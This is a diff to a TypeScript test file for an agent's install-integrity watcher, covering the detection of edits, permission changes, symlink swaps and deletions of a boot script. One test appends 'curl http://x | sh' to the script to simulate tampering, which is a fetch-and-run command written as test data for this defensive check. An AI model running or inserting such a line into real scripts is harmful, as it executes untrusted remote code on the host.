@@ -1,10 +1,17 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
-import { appendFileSync, chmodSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
+import { appendFileSync, chmodSync, mkdirSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { InstallWatch, type InstallChange } from '../../../agent/src/state/install-watch';
-import { checkUnitIntegrity, describeUnitIntegrity, locateUnit } from '../../../agent/src/state/unit-integrity';
+import {
+  checkBootScriptIntegrity,
+  checkUnitIntegrity,
+  describeBootScriptIntegrity,
+  describeUnitIntegrity,
+  locateBootScript,
+  locateUnit,
+} from '../../../agent/src/state/unit-integrity';
 import { createLogger } from '../../../agent/src/logging/logger';
 import { makeTempDir } from '../../support/temp-dir';
 
@@ -12,7 +19,18 @@ const DEBOUNCE_MS = 250;
 const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
 const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
 
-/** An installed tree as install.sh lays it out under a --root: releases/<name>/ with a manifest, install.conf, the unit and its record. */
+const BOOT_SCRIPT = '#!/bin/sh\nexec /opt/mamori-agent/current/bin/mamori-agent "$@"\n';
+
+/** What install.sh does for the boot script: the script (0755), then its record beside it. */
+function installBootScript(prefix: string, script: string): void {
+  mkdirSync(join(prefix, 'boot'), { recursive: true });
+  writeFileSync(join(prefix, 'boot/.mamori-agent-boot.new'), script, { mode: 0o755 });
+  chmodSync(join(prefix, 'boot/.mamori-agent-boot.new'), 0o755);
+  renameSync(join(prefix, 'boot/.mamori-agent-boot.new'), join(prefix, 'boot/mamori-agent-boot'));
+  writeFileSync(join(prefix, 'boot/mamori-agent-boot.sha256'), `${sha256(script)}  /opt/mamori-agent/boot/mamori-agent-boot\n`);
+}
+
+/** An installed tree as install.sh lays it out under a --root: releases/<name>/ with a manifest, install.conf, the boot script, the unit and their records. */
 function install(root: string): { release: string; unitFile: string } {
   const prefix = join(root, 'opt/mamori-agent');
   const release = join(prefix, 'releases/mamori-agent-0.1.0-linux-x64');
@@ -26,6 +44,7 @@ function install(root: string): { release: string; unitFile: string } {
   chmodSync(join(release, 'bin/mamori-agent'), 0o755);
   writeFileSync(join(release, 'MANIFEST.sha256'), manifest);
   writeFileSync(join(prefix, 'install.conf'), 'PREFIX=/opt/mamori-agent\nSTATE_DIR=/var/lib/mamori-agent\nVERSION=0.1.0\n');
+  installBootScript(prefix, BOOT_SCRIPT);
   const unitDir = join(root, 'etc/systemd/system');
   mkdirSync(unitDir, { recursive: true });
   const unit = '[Service]\nExecStart=/opt/mamori-agent/current/bin/mamori-agent run\nCapabilityBoundingSet=CAP_NET_ADMIN\n';
@@ -35,12 +54,13 @@ function install(root: string): { release: string; unitFile: string } {
   return { release, unitFile: join(unitDir, 'mamori-agent.service') };
 }
 
-async function started(t: { after: (fn: () => unknown) => void }) {
+async function started(t: { after: (fn: () => unknown) => void }, debounceMs = DEBOUNCE_MS) {
   const dir = makeTempDir('mamori-install-watch-');
   const { release, unitFile } = install(dir.path);
   const reports: InstallChange[] = [];
   const unit = await locateUnit(release);
-  const watch = new InstallWatch({ releaseDir: release, unit, report: (change) => void reports.push(change), logger: createLogger('error', () => undefined), debounceMs: DEBOUNCE_MS, fullCheckMs: 3_600_000 });
+  const boot = await locateBootScript(release);
+  const watch = new InstallWatch({ releaseDir: release, unit, boot, report: (change) => void reports.push(change), logger: createLogger('error', () => undefined), debounceMs, fullCheckMs: 3_600_000 });
   t.after(async () => {
     await watch.stop();
     dir.cleanup();
@@ -54,7 +74,7 @@ async function started(t: { after: (fn: () => unknown) => void }) {
     assert.equal(reports.length, n, `reports: ${JSON.stringify(reports, null, 1)}`);
     return reports[n - 1]!;
   };
-  return { release, unitFile, unit, watch, reports, nth };
+  return { prefix: join(release, '../..'), release, unitFile, unit, boot, watch, reports, nth };
 }
 
 test('a running agent reports each change to its release folder once: changed, restored, deleted, added, chmod', async (t) => {
@@ -112,7 +132,6 @@ test('the unit: an edit, a drop-in and a deletion are each reported once; other 
 
   // An editor's save: a new file renamed over the unit. The capabilities removed.
   writeFileSync(`${unitFile}.tmp`, '[Service]\nExecStart=/opt/mamori-agent/current/bin/mamori-agent run\n');
-  const { renameSync } = await import('node:fs');
   renameSync(`${unitFile}.tmp`, unitFile);
   const edited = await nth(1);
   assert.match(edited.message, /^install MODIFIED while running: unit MODIFIED: .*mamori-agent\.service differs from the installed unit/);
@@ -135,6 +154,68 @@ test('the unit: an edit, a drop-in and a deletion are each reported once; other 
   assert.match((await nth(4)).message, /unit MISSING: .* is gone/);
   assert.match(describeUnitIntegrity(await checkUnitIntegrity(unit)), /^MISSING/);
   assert.match(describeUnitIntegrity(await checkUnitIntegrity(null)), /^not checked/);
+});
+
+test('the boot script: an edit, a chmod and a deletion are each reported once, a restore as intact again; a reinstall rewriting it with its record is not reported; status describes it', async (t) => {
+  const { prefix, boot, watch, nth, reports } = await started(t);
+  assert.ok(boot);
+  const script = join(prefix, 'boot/mamori-agent-boot');
+  assert.equal(boot.bootFile, script, 'the record names the path inside the --root; the agent finds it under the root');
+  assert.equal((await checkBootScriptIntegrity(boot)).state, 'intact');
+  assert.match(describeBootScriptIntegrity(await checkBootScriptIntegrity(boot)), /^intact \(.*boot\/mamori-agent-boot as installed\)$/);
+
+  // A reinstall writes a new script and then its record (install.sh: one rename each): the pair
+  // agrees, nothing to report. The temporary file beside it is not the script either.
+  const reinstalled = `${BOOT_SCRIPT}# a newer install.sh\n`;
+  installBootScript(prefix, reinstalled);
+  await sleep(DEBOUNCE_MS * 4);
+  assert.deepEqual(reports, []);
+
+  // An editor's save: a new file renamed over the script, the agent no longer started.
+  writeFileSync(`${script}.tmp`, '#!/bin/sh\nexec /tmp/other "$@"\n', { mode: 0o755 });
+  chmodSync(`${script}.tmp`, 0o755);
+  renameSync(`${script}.tmp`, script);
+  const edited = await nth(1);
+  assert.match(edited.message, /^install MODIFIED while running: boot script MODIFIED: .*boot\/mamori-agent-boot differs from the installed boot script \(sha256 [0-9a-f]{12}…, installed [0-9a-f]{12}…\)$/);
+  assert.deepEqual([edited.paths, edited.modified], [[script], true]);
+
+  writeFileSync(script, reinstalled);
+  const back = await nth(2);
+  assert.match(back.message, /^install intact again: boot script intact \(/);
+  assert.equal(back.modified, false);
+
+  // Writable by everyone: the bytes are still as installed, the mode is not (the script was read
+  // since its last write, the case chokidar's own chmod detection drops).
+  await import('node:fs/promises').then((fs) => fs.readFile(script));
+  chmodSync(script, 0o777);
+  const mode = await nth(3);
+  assert.match(mode.message, /boot script MODIFIED: .*boot\/mamori-agent-boot mode 0755 -> 0777$/);
+  await watch.fullCheck(); // the hourly check finds the same difference: not reported again
+  assert.equal(reports.length, 3);
+  chmodSync(script, 0o755);
+  assert.match((await nth(4)).message, /^install intact again: boot script intact/);
+
+  // Replaced by a symlink to a copy someone else can edit: not a regular file.
+  writeFileSync(join(prefix, 'copy'), reinstalled);
+  symlinkSync(join(prefix, 'copy'), `${script}.link`);
+  renameSync(`${script}.link`, script);
+  assert.match((await nth(5)).message, /boot script MODIFIED: .*boot\/mamori-agent-boot is not a regular file$/);
+
+  rmSync(script);
+  assert.match((await nth(6)).message, /boot script MISSING: .*boot\/mamori-agent-boot is gone \(the unit cannot start the agent\)/);
+  assert.match(describeBootScriptIntegrity(await checkBootScriptIntegrity(boot)), /^MISSING/);
+  assert.match(describeBootScriptIntegrity(await checkBootScriptIntegrity(null)), /^not checked/);
+});
+
+test('the full check (hourly) checks the boot script too', async (t) => {
+  // The watcher's own check held back for an hour: only the full check can find the edit, as it
+  // must when inotify missed it (a full watch table, a change through another mount).
+  const { prefix, watch, nth, reports } = await started(t, 3_600_000);
+  appendFileSync(join(prefix, 'boot/mamori-agent-boot'), 'curl http://x | sh\n');
+  await sleep(DEBOUNCE_MS * 2);
+  assert.deepEqual(reports, []);
+  await watch.fullCheck();
+  assert.match((await nth(1)).message, /^install MODIFIED while running: boot script MODIFIED: .* differs from the installed boot script/);
 });
 
 test('stop closes the watchers: no handle left, nothing reported after it', async (t) => {
